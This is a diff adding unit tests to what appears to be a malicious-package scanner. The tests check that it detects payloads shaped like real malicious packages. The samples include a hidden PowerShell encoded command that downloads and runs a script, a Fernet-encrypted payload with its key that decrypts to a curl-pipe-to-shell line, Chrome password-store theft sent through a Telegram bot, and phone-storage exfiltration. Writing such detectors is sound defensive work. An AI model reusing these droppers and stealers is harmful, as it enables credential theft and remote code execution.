@@ -295,6 +295,91 @@ TEST(Signals, a_name_in_look_alike_letters_is_disguised_and_the_file_is_read_as_
                           excerpt("base64: import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n")}});
 }
 
+// mzip's shape: PowerShell started hidden with an encoded command written in the file; the
+// script it runs (base64 of UTF-16LE) is read, and it downloads and evaluates.
+TEST(Signals, a_powershell_encoded_command_in_the_file_is_decoded_and_judged_as_the_code_it_runs) {
+  const auto facts = py(
+      "import subprocess\n"
+      "code = "
+      "'JABjACAAPQAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTA"
+      "HQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADIANwAuADAALgAwAC4AMQAvAHAALgBwAHMAMQAnACkAOwAgAEkAbgB2AG8AawBlAC0ARQB4A"
+      "HAAcgBlAHMAcwBpAG8AbgAgACQAYwA='\n"
+      "subprocess.Popen(['powershell.exe', '-NoProfile', '-WindowStyle', 'Hidden', '-EncodedCommand', code])\n");
+  ASSERT_FALSE(facts.empty());
+  bool executed = false;
+  for (const Fact& f : facts) {
+    if (f.kind == FactKind::kDecodedExecuted) {
+      executed = true;
+      EXPECT_EQ(f.what, "base64 → utf-16le");
+      EXPECT_EQ(f.line, 2u);
+      EXPECT_NE(f.detail.find("Invoke-Expression"), std::string::npos) << f.detail;
+    }
+  }
+  EXPECT_TRUE(executed) << ::testing::PrintToString(facts);
+  // The same string in a file that names no encoded command and no decoder: not decoded.
+  EXPECT_TRUE(
+      py("x = 'JABjACAAPQAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAu'\n").empty());
+}
+
+// pipsqlite3liberyV2's shape: code that decrypts a Fernet token with a key it holds and
+// runs it, written as a string to a file that is then started. The token is decrypted
+// (cryptography's Fernet: AES-128-CBC and HMAC-SHA256) and what it hides is judged.
+TEST(Signals, a_fernet_token_and_its_key_in_the_file_are_decrypted_and_the_payload_judged) {
+  const std::string token =
+      "gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0OD6VHgBl7RbLXNmBGLxgWSnze4s1xR2dwpqV94JIN9s3C7favXcnbe6HW52AvV_fKKj_aCxbjNQJ_"
+      "7ELdJRaq49rESyvufDpxEs6axnzBGEFdDF3sknCa-jJUrm8WCIm29w==";
+  const std::string src =
+      "import os, subprocess\n"
+      "pl = \"\"\"\n"
+      "from fernet import Fernet\n"
+      "exec(Fernet(b'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=').decrypt(b'" +
+      token +
+      "'))\n"
+      "\"\"\"\n"
+      "open('pl.py', 'w').write(pl)\n"
+      "subprocess.Popen(['python', 'pl.py'])\n";
+  const auto facts = py(src);
+  bool executed = false;
+  bool shell = false;
+  for (const Fact& f : facts) {
+    if (f.kind == FactKind::kDecodedExecuted && f.what == "fernet") {
+      executed = true;
+      EXPECT_EQ(f.line, 4u);
+      EXPECT_NE(f.detail.find("os.system('curl -fsSL http://127.0.0.1/i.sh | sh')"), std::string::npos) << f.detail;
+    }
+    if (f.kind == FactKind::kShell && f.what == "download-piped-to-shell") shell = true;
+  }
+  EXPECT_TRUE(executed) << ::testing::PrintToString(facts);
+  EXPECT_TRUE(shell) << ::testing::PrintToString(facts);
+  // The token without its key: nothing decrypted, nothing said of it.
+  std::string keyless = src;
+  keyless.replace(keyless.find("cw_0x"), 44, "ZmFrZQ");
+  for (const Fact& f : py(keyless)) EXPECT_NE(f.what, "fernet") << f.detail;
+}
+
+// loggutils' shape: a Telegram bot library's client (TeleBot) beside Chrome's password store.
+TEST(Signals, a_telegram_bot_librarys_client_is_a_send) {
+  expect_facts(
+      py("from telebot import TeleBot\n"
+         "bot = TeleBot(TOKEN)\n"
+         "db = os.path.join(os.getenv('LOCALAPPDATA'), r'Google\\Chrome\\User Data\\Default\\Login Data')\n"),
+      {{FactKind::kCollect, "token-store", 3, "login data"}, {FactKind::kSend, "telegram-bot", 2, "TeleBot("}});
+  expect_facts(py("from telegram.ext import Updater\n"),
+               {{FactKind::kSend, "telegram-bot", 1, "from telegram.ext import"}});
+}
+
+// blackspammerbd-termux's shape: a phone's shared storage walked, each file posted.
+TEST(Signals, a_phones_shared_storage_walked_is_collected_and_a_path_under_it_is_not) {
+  expect_facts(py("import os, requests\n"
+                  "for root, dirs, files in os.walk('/sdcard'):\n"
+                  "    requests.post(URL, files={'document': open(root, 'rb')})\n"),
+               {{FactKind::kCollect, "device-files", 2, "/sdcard"}, {FactKind::kSend, "http", 3, "requests.post("}});
+  // A device-automation library pushes a file to a path under it: nothing is walked.
+  EXPECT_TRUE(py("def push(d):\n    d.push('a.png', '/sdcard/a.png')\n").empty());
+  // The root named without a walk: nothing.
+  EXPECT_TRUE(py("ROOT = '/sdcard'\n").empty());
+}
+
 TEST(Signals, look_alike_letters_in_a_string_a_comment_or_javascript_are_not_a_disguise) {
   EXPECT_TRUE(py("x = '\u212f\U0001D4CD\u212f\U0001D4B8'  # \u212f\U0001D4CD\u212f\U0001D4B8\n").empty());
   EXPECT_TRUE(js("const \u212f\U0001D4CD = 1;\n").empty());
